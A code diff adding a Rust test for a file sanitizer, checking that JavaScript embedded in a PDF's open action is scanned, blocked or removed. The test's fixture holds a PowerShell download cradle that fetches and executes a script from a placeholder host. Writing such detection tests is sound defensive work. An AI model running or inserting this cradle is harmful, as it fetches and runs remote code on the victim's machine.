@@ -395,3 +395,28 @@ fn an_attachment_the_policy_keeps_is_scanned_as_an_active_part() {
     let clean = kit::pdf::with_attachments(&[("notes.txt", b"nothing to see")]);
     assert_eq!(sanitize(&engine, "report.pdf", &clean, &keep).report.outcome, Outcome::Clean);
 }
+
+#[test]
+fn pdf_javascript_is_scanned_as_an_active_part() {
+    let engine = engine(None);
+    let cradle =
+        "var c = 'powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString(\\'http://x.test/a\\')\"';";
+    let pdf = kit::pdf::build(&kit::pdf::Spec {
+        pages: 1,
+        lines: 2,
+        open_action_js: Some(cradle.into()),
+        ..kit::pdf::Spec::default()
+    });
+    let kept = policy("[classes]\nscripts = \"allow\"\nauto-actions = \"allow\"\n[scan]\nwhat = \"kept-active\"\n");
+    let blocked = sanitize(&engine, "form.pdf", &pdf, &kept).report;
+    assert_eq!(blocked.outcome, Outcome::Blocked, "{}", blocked.summary());
+    let hit = blocked.scans.iter().find(|s| !s.matches.is_empty()).expect("the script was scanned");
+    assert_eq!(hit.matches, ["powershell_cradle.powershell_download_cradle"]);
+    assert!(hit.location.starts_with("form.pdf: object ") && hit.location.ends_with("/JS"), "{}", hit.location);
+
+    let removed = sanitize(&engine, "form.pdf", &pdf, &policy("[scan]\nwhat = \"kept-active\"\n")).report;
+    assert_eq!(removed.outcome, Outcome::Sanitized, "{}", removed.summary());
+    let note = removed.items.iter().find(|i| i.class == "malware").expect("reported on the removed script");
+    assert_eq!(note.action, Disposition::Removed);
+    assert!(note.detail.contains("removed scripts"), "{}", note.detail);
+}
